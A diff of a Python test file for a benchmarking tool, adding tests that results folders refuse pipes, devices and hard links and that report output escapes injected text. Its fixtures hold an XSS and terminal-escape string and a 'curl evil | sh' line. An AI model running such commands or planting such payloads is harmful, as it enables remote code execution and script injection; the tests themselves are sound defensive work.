@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 from typing import TYPE_CHECKING
 
@@ -11,7 +12,9 @@ import zstandard
 
 from bench.granularity.environment import commit_of
 from bench.granularity.folder import ResultsFolder
-from bench.granularity.record import ResultFile, read_results
+from bench.granularity.record import ResultFile, as_line, read_results
+from bench.lint.repetition import reproducible
+from bench.lint.subject import Subject
 from bench.report_page import drawing, redraw
 from bench.report_page.facts import Facts
 from bench.report_page.figures.over_time import FIELDS, calls_of
@@ -24,6 +27,7 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 GIT = ("git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=main")
+MARKUP = "\x1b]0;x\x07<script>alert(1)</script>"
 SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"
 
 
@@ -107,7 +111,72 @@ def test_a_line_of_a_history_without_an_end_is_refused(tmp_path: Path) -> None:
 
 def test_a_device_is_not_read_without_end_as_results(tmp_path: Path) -> None:
     (tmp_path / "results.jsonl").symlink_to("/dev/zero")
-    with pytest.raises(
-        InvalidInput, match=r"line 1: it is longer than 4,194,304 bytes: is this a file of segmented-bench"
-    ):
+    with pytest.raises(InvalidInput, match=r"results\.jsonl cannot be read: it is not a plain file$"):
         read_results(tmp_path / "results.jsonl")
+
+
+@pytest.mark.parametrize("name", ["results.jsonl", "SHA256SUMS", "calibrations.json", "report.html", "histories"])
+def test_a_pipe_in_a_results_folder_is_refused_and_nobody_waits_for_it(tmp_path: Path, name: str) -> None:
+    os.mkfifo(tmp_path / name)
+    sentence = f"{tmp_path} has {tmp_path / name}, which is neither a plain file nor a folder: remove it"
+    with pytest.raises(InvalidInput) as refused:
+        redraw(tmp_path, lambda *_: None)
+    assert str(refused.value) == sentence
+    with pytest.raises(InvalidInput) as refused, ResultsFolder(tmp_path):
+        pass
+    assert str(refused.value) == f"--report {sentence}"
+
+
+@pytest.mark.parametrize("command", [("lint",), ("compare", "{0}"), ("granularity", "--plan")])
+def test_no_command_waits_for_a_pipe_in_place_of_a_file(tmp_path: Path, command: tuple[str, ...]) -> None:
+    pipe = tmp_path / "results.jsonl"
+    os.mkfifo(pipe)
+    done = ran("bench", *(word.format(pipe) for word in command), str(pipe), url=None)
+    assert (done.returncode, done.stderr.splitlines()[-1]) == (
+        2,
+        f"segmented: {pipe} cannot be read: it is not a plain file",
+    )
+
+
+def test_a_pipe_in_place_of_a_history_is_no_history(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "history.zst")
+    kept = run().model_copy(update={"history": "history.zst", "history_sha256": "0" * 64})
+    assert calls_of(tmp_path, kept, 1) is None
+    told = reproducible(Subject(ResultFile(session=session_line(), runs=(kept,), end=end_line(1)), tmp_path))
+    assert told.outcome == "broken"
+
+
+def test_a_report_and_a_session_write_through_no_hard_link(tmp_path: Path) -> None:
+    folder, victim = tmp_path / "session", tmp_path / "victim"
+    folder.mkdir()
+    victim.write_text("precious")
+    (folder / "plan.toml").hardlink_to(victim)
+    (folder / "report.html").hardlink_to(victim)
+    (folder / "results.jsonl").write_text(
+        as_line(session_line()) + as_line(run()) + as_line(end_line(1)), encoding="utf-8"
+    )
+    redraw(folder, lambda *_: None)
+    assert "<html" in (folder / "report.html").read_text(encoding="utf-8")
+    with ResultsFolder(folder) as held:
+        held.begin(session_line(), "# a plan")
+    assert (folder / "plan.toml").read_text(encoding="utf-8") == "# a plan"
+    (folder / "results.jsonl").unlink()
+    (folder / "results.jsonl").hardlink_to(victim)
+    victim.write_text(as_line(session_line()), encoding="utf-8")
+    with pytest.raises(InvalidInput, match=r"results\.jsonl has a second name elsewhere, a hard link: copy it"):
+        ResultsFolder(folder)
+    assert victim.read_text(encoding="utf-8") == as_line(session_line())
+
+
+def test_no_text_of_a_results_file_becomes_html_or_controls_a_terminal(tmp_path: Path) -> None:
+    session = session_line()
+    environment = {**session.environment, MARKUP: MARKUP, "code": {"commit": MARKUP}, "placement": MARKUP}
+    foreign = session.model_copy(update={"environment": environment, "plan_sha256": MARKUP})
+    lines = [as_line(foreign), as_line(run()), as_line(end_line(1))]
+    (tmp_path / "results.jsonl").write_text("".join(lines), encoding="utf-8")
+    redraw(tmp_path, lambda *_: None)
+    for name in ("report.html", "REPRODUCE.md"):
+        written = (tmp_path / name).read_text(encoding="utf-8")
+        assert "alert(1)" in written
+        assert "<script>alert" not in written
+        assert "\x1b" not in written
